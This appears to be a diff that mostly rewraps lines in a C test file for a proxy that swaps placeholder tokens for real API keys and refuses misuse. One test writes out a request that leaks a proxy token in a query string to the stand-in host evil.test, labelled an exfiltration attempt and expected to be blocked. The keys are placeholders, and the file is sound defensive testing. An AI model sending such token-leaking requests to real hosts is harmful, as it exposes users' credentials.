@@ -5,8 +5,8 @@
 #include "tap.h"
 
 #define OPENAI_TOK "keyhole-openai-0123456789abcdef0123456789abcdef"
-#define ANTH_TOK "keyhole-anthropic-fedcba9876543210fedcba9876543210"
-#define GROQ_TOK "keyhole-groq-11112222333344445555666677778888"
+#define ANTH_TOK   "keyhole-anthropic-fedcba9876543210fedcba9876543210"
+#define GROQ_TOK   "keyhole-groq-11112222333344445555666677778888"
 
 static struct kh_policy *policy;
 static struct kh_secrets secrets;
@@ -19,7 +19,8 @@ static const char *mappings_json =
 	"{\"proxy_token\":\"" OPENAI_TOK "\",\"env_name\":\"OPENAI_API_KEY\","
 	"\"upstream_hosts\":[\"api.openai.com\"],\"match_headers\":[\"Authorization\"]},"
 	"{\"proxy_token\":\"" ANTH_TOK "\",\"env_name\":\"ANTHROPIC_API_KEY\","
-	"\"upstream_hosts\":[\"api.anthropic.com\"],\"match_headers\":[\"x-api-key\",\"Authorization\"]},"
+	"\"upstream_hosts\":[\"api.anthropic.com\"],\"match_headers\":[\"x-api-key\","
+	"\"Authorization\"]},"
 	"{\"proxy_token\":\"" GROQ_TOK "\",\"env_name\":\"GROQ_API_KEY\","
 	"\"upstream_hosts\":[\"api.groq.com\"]}]}";
 
@@ -78,7 +79,8 @@ static void bearer_swapped_toward_own_host(void)
 {
 	CHECK_INT(run("POST /v1/chat HTTP/1.1\r\nHost: api.openai.com\r\n"
 		      "Authorization: Bearer " OPENAI_TOK "\r\nContent-Length: 2\r\n\r\n",
-		      "api.openai.com", 443, true, false, NULL), 0);
+		      "api.openai.com", 443, true, false, NULL),
+		  0);
 	CHECK(strstr(outbuf, "Authorization: Bearer sk-REAL-openai\r\n") != NULL);
 	CHECK(strstr(outbuf, "keyhole-openai") == NULL);
 	CHECK(strstr(outbuf, "Content-Length: 2\r\n") != NULL);
@@ -89,7 +91,9 @@ static void bearer_swapped_toward_own_host(void)
 static void bearer_toward_other_host_refused(void)
 {
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.groq.com\r\nAuthorization: Bearer " OPENAI_TOK
-		      "\r\n\r\n", "api.groq.com", 443, true, false, NULL), -1);
+		      "\r\n\r\n",
+		      "api.groq.com", 443, true, false, NULL),
+		  -1);
 	CHECK_INT(res.status, 403);
 	CHECK_STR(res.reason, "token_host_mismatch");
 	CHECK_INT(strlen(outbuf), 0); /* nothing emitted */
@@ -99,35 +103,46 @@ static void bearer_toward_other_host_refused(void)
 static void header_key_swapped(void)
 {
 	CHECK_INT(run("POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
-		      "x-api-key: " ANTH_TOK "\r\n\r\n", "api.anthropic.com", 443, true, false, NULL), 0);
+		      "x-api-key: " ANTH_TOK "\r\n\r\n",
+		      "api.anthropic.com", 443, true, false, NULL),
+		  0);
 	CHECK(strstr(outbuf, "x-api-key: sk-ant-REAL\r\n") != NULL);
 	/* the OpenAI token is Authorization-only: in x-api-key it is misplaced */
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nx-api-key: " OPENAI_TOK "\r\n\r\n",
-		      "api.openai.com", 443, true, false, NULL), -1);
+		      "api.openai.com", 443, true, false, NULL),
+		  -1);
 	CHECK_STR(res.reason, "token_misplaced");
 }
 
 static void token_anywhere_else_refused(void)
 {
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nX-Note: see " OPENAI_TOK
-		      " here\r\n\r\n", "api.openai.com", 443, true, false, NULL), -1);
+		      " here\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL),
+		  -1);
 	CHECK_STR(res.reason, "token_misplaced");
 	CHECK_INT(run("GET /v1/x?key=" OPENAI_TOK " HTTP/1.1\r\nHost: api.openai.com\r\n\r\n",
-		      "api.openai.com", 443, true, false, NULL), -1);
+		      "api.openai.com", 443, true, false, NULL),
+		  -1);
 	CHECK(res.token_in_target);
 	/* toward a foreign host the same leak is an exfiltration attempt */
-	CHECK_INT(run("GET /?k=" OPENAI_TOK " HTTP/1.1\r\nHost: evil.test\r\n\r\n", "evil.test", 443,
-		      true, false, NULL), -1);
+	CHECK_INT(run("GET /?k=" OPENAI_TOK " HTTP/1.1\r\nHost: evil.test\r\n\r\n", "evil.test",
+		      443, true, false, NULL),
+		  -1);
 	CHECK_STR(res.reason, "token_host_mismatch");
 	/* a token with a changed prefix still carries the random part */
-	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer x"
-		      OPENAI_TOK "\r\n\r\n", "api.openai.com", 443, true, false, NULL), -1);
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer x" OPENAI_TOK
+		      "\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL),
+		  -1);
 }
 
 static void unknown_bearer_passes_through(void)
 {
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer sk-user-own"
-		      "\r\n\r\n", "api.openai.com", 443, true, false, NULL), 0);
+		      "\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL),
+		  0);
 	CHECK(strstr(outbuf, "Authorization: Bearer sk-user-own\r\n") != NULL);
 	CHECK_INT(res.n_swapped, 0);
 }
@@ -135,15 +150,18 @@ static void unknown_bearer_passes_through(void)
 static void cleartext_rules(void)
 {
 	CHECK_INT(run("GET http://api.openai.com/v1 HTTP/1.1\r\nHost: api.openai.com\r\n"
-		      "Authorization: Bearer " OPENAI_TOK "\r\n\r\n", "api.openai.com", 80, false,
-		      true, "/v1"), -1);
+		      "Authorization: Bearer " OPENAI_TOK "\r\n\r\n",
+		      "api.openai.com", 80, false, true, "/v1"),
+		  -1);
 	CHECK_STR(res.reason, "cleartext_credential");
 }
 
 static void unavailable_secret(void)
 {
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.groq.com\r\nAuthorization: Bearer " GROQ_TOK
-		      "\r\n\r\n", "api.groq.com", 443, true, false, NULL), -1);
+		      "\r\n\r\n",
+		      "api.groq.com", 443, true, false, NULL),
+		  -1);
 	CHECK_INT(res.status, 503);
 	CHECK_STR(res.reason, "credential_unavailable");
 }
@@ -152,8 +170,10 @@ static void hop_by_hop_removed(void)
 {
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: keep-alive, X-Drop\r\n"
 		      "X-Drop: 1\r\nKeep-Alive: 5\r\nProxy-Authorization: Basic eA==\r\n"
-		      "Proxy-Connection: keep-alive\r\nTE: trailers\r\nUpgrade: h2c\r\nX-Keep: 2\r\n\r\n",
-		      "api.openai.com", 443, true, false, NULL), 0);
+		      "Proxy-Connection: keep-alive\r\nTE: trailers\r\nUpgrade: h2c\r\nX-Keep: "
+		      "2\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL),
+		  0);
 	CHECK(strstr(outbuf, "X-Drop") == NULL);
 	CHECK(strstr(outbuf, "Keep-Alive") == NULL);
 	CHECK(strstr(outbuf, "Proxy-") == NULL);
@@ -162,18 +182,22 @@ static void hop_by_hop_removed(void)
 	CHECK(strstr(outbuf, "TE: trailers\r\n") != NULL);
 	CHECK(strstr(outbuf, "X-Keep: 2\r\n") != NULL);
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: close\r\n\r\n",
-		      "api.openai.com", 443, true, false, NULL), 0);
+		      "api.openai.com", 443, true, false, NULL),
+		  0);
 	CHECK(strstr(outbuf, "Connection: close\r\n") != NULL);
 	CHECK_INT(run("POST / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Content-Length\r\n"
-		      "Content-Length: 3\r\n\r\n", "api.openai.com", 443, true, false, NULL), -1);
+		      "Content-Length: 3\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL),
+		  -1);
 	CHECK_INT(res.status, 400);
 }
 
 static void websocket_upgrade_kept(void)
 {
 	CHECK_INT(run("GET /ws HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Upgrade\r\n"
-		      "Upgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n", "api.openai.com", 443, true,
-		      false, NULL), 0);
+		      "Upgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL),
+		  0);
 	CHECK(res.upgrade);
 	CHECK(strstr(outbuf, "Upgrade: websocket\r\n") != NULL);
 	CHECK(strstr(outbuf, "Connection: Upgrade\r\n") != NULL);
@@ -182,15 +206,19 @@ static void websocket_upgrade_kept(void)
 static void host_rules(void)
 {
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "api.openai.com", 443, true,
-		      false, NULL), -1);
+		      false, NULL),
+		  -1);
 	CHECK_STR(res.reason, "host_mismatch");
-	CHECK_INT(run("GET / HTTP/1.1\r\nHost: API.OpenAI.com.:8443\r\n\r\n", "api.openai.com", 8443,
-		      true, false, NULL), 0);
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: API.OpenAI.com.:8443\r\n\r\n", "api.openai.com",
+		      8443, true, false, NULL),
+		  0);
 	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com:9999\r\n\r\n", "api.openai.com", 8443,
-		      true, false, NULL), -1);
+		      true, false, NULL),
+		  -1);
 	/* absolute-form: Host is replaced by the URL's authority, target made origin-form */
-	CHECK_INT(run("GET http://plain.test:8080/p?q HTTP/1.1\r\nHost: other\r\n\r\n", "plain.test",
-		      8080, false, true, "/p?q"), 0);
+	CHECK_INT(run("GET http://plain.test:8080/p?q HTTP/1.1\r\nHost: other\r\n\r\n",
+		      "plain.test", 8080, false, true, "/p?q"),
+		  0);
 	CHECK(strncmp(outbuf, "GET /p?q HTTP/1.1\r\nHost: plain.test:8080\r\n", 42) == 0);
 	CHECK_INT(run("GET / HTTP/1.0\r\n\r\n", "api.openai.com", 443, true, false, NULL), 0);
 	CHECK(strstr(outbuf, "Host: api.openai.com\r\n") != NULL);
